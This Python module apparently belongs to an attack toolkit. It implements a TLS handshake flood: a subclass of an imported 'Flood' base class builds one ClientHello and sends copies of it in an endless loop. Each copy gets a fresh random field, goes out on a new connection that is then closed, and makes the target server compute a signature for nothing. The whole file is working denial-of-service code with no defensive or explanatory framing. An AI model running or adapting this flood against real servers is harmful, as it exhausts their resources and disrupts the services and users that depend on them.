"""TLS handshakes that are begun, which costs a server a signature, and thrown away."""
import os
import ssl

from attack.floods import Flood, push

RANDOM = slice(11, 43)  # of a ClientHello in its record: RFC 8446 section 4.1.2


def client_hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname='localhost').do_handshake()
    except ssl.SSLWantReadError:
        return bytearray(outgoing.read())


class Hellos(Flood):
    TITLE = 'TLS hellos'
    TLS = True

    def rounds(self):
        hello = client_hello()
        while True:
            hello[RANDOM] = os.urandom(32)
            s = self.dial()
            push(s, hello)
            s.close()
            yield
